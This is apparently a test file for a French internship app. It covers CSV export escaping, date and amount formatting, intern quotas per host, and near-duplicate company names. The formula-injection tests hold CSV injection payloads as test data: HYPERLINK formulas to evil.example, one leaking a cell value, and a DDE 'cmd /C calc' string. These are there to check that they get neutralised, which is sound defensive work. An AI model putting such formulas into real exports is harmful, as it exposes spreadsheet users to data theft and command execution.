import { csvCell, csvRow, frenchAmount, frenchDate, frenchNumber } from '../../src/domain/csv';
import { readCsv } from '../support/readCsv';
import { hostQuota, maxConcurrent } from '../../src/domain/hostQuota';
import { comparableName, nearlySameName } from '../../src/domain/organisationDuplicates';

describe('CSV for French Excel', () => {
  it.each([
    ['plain', 'plain'],
    ['Société', 'Société'],
    ['a;b', '"a;b"'],
    ['dit "bonjour"', '"dit ""bonjour"""'],
    ['deux\nlignes', '"deux\nlignes"'],
    ['retour\r', '"retour\r"'],
    [null, ''],
    [undefined, ''],
    [42, '42'],
  ])('writes %p as %p', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    ['=HYPERLINK("https://evil.example";"Cliquez")', '"\'=HYPERLINK(""https://evil.example"";""Cliquez"")"'],
    ['=1+1', "'=1+1"],
    ['+33 6 12 34 56 78', "'+33 6 12 34 56 78"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['-', "'-"],
    ['Jean-Pierre', 'Jean-Pierre'],
    ['a=1', 'a=1'],
  ])('neutralises the formula %p as %p (OWASP: a leading quote)', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each([
    [-4.5, '-4.5'],
    ['-4,50', '-4,50'],
    ['-616', '-616'],
    ['4,35', '4,35'],
  ])('keeps the number %p as a number: %p', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('reads back as the original text behind the quote, cell for cell', () => {
    const values = ['=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', '@x', '-4,50', 'ligne\r\nsuivante', null];
    expect(readCsv(csvRow(values.map((value) => value)))).toEqual([
      ['\'=HYPERLINK("https://evil.example/?d="&A2;"Ouvrir")', 'Dupont; "Fils"', "'@x", '-4,50', 'ligne\r\nsuivante', ''],
    ]);
  });

  it.each([
    ['05210055400013', '"=""05210055400013"""'],
    ['01000', '"=""01000"""'],
    ['E2024001', 'E2024001'],
    ['=1+1', "'=1+1"],
    [null, ''],
  ])('keeps the code of digits %p as text Excel will not turn into a number: %p', (digits, expected) => {
    expect(csvCell({ digits })).toBe(expected);
  });

  it('separates cells with ; and ends rows with CRLF', () => {
    expect(csvRow(['a', 'b;c', null])).toBe('a;"b;c";\r\n');
  });

  it.each([
    ['2027-03-02', '02/03/2027'],
    [null, ''],
    ['nonsense', ''],
  ])('dates %p → %p', (iso, expected) => expect(frenchDate(iso)).toBe(expected));

  it.each([
    [4.5, '4,50'],
    [1234.5, '1234,50'],
    [0, '0,00'],
    [null, ''],
  ])('amounts %p → %p', (amount, expected) => expect(frenchAmount(amount)).toBe(expected));

  it.each([
    [616, '616'],
    [12.5, '12,5'],
    [null, ''],
  ])('numbers %p → %p', (value, expected) => expect(frenchNumber(value)).toBe(expected));
});

describe('host limits', () => {
  it.each([
    [null, 3],
    ['0', 3],
    ['10-19', 3],
    ['20-49', 3],
    ['50-249', 8],
    ['250-4999', 38],
    ['5000+', 750],
  ])('a host of band %p may take %p interns at once', (band, quota) => expect(hostQuota(band)).toBe(quota));

  it('counts the most periods that overlap on one day', () => {
    expect(
      maxConcurrent([
        { startDate: '2027-01-01', endDate: '2027-01-31' },
        { startDate: '2027-01-31', endDate: '2027-02-28' },
        { startDate: '2027-02-01', endDate: '2027-02-10' },
        { startDate: null, endDate: '2027-02-10' },
      ]),
    ).toBe(2);
    expect(maxConcurrent([])).toBe(0);
  });
});

describe('duplicate host names', () => {
  it('compares names without accents, case, punctuation or legal form', () => {
    expect(comparableName('Société Générale S.A.')).toBe('societe generale');
    expect(nearlySameName('Société Générale Informatique', 'SOCIETE GENERALE INFORMATIQUE SAS')).toBe(true);
    expect(nearlySameName('Atelier Numérique', 'Atelier Numerqiue')).toBe(true);
    expect(nearlySameName('Atelier Numérique', 'Boulangerie Dupain')).toBe(false);
    expect(nearlySameName('Orange', 'Orano')).toBe(false);
  });
});
